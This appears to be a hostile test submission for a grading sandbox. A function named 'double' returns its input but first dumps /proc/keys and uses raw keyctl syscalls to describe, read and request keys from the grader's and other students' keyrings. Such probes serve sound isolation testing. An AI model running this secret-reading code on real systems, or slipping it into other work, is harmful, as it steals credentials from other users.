"""Searches the kernel's keyrings for keys of the grader and of other students: no folder and no namespace holds them."""
# bites: secret
# control: no the harness plants no key, which would outlive it
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, REQUEST_KEY = (250, 249) if platform.machine() == "x86_64" else (219, 218)
DESCRIBE, READ = 6, 11


def double(x):
    try:
        print(open("/proc/keys").read())
    except OSError:
        pass
    text = ctypes.create_string_buffer(4096)
    for ring in range(-8, 0):
        if libc.syscall(KEYCTL, DESCRIBE, ring, text, 4096) > 0:
            print(text.value)
        count = libc.syscall(KEYCTL, READ, ring, text, 4096)
        if count > 0:
            print(text.raw[:count])
    print(libc.syscall(REQUEST_KEY, b"user", b"hostile-secret", None, -3))
    return x
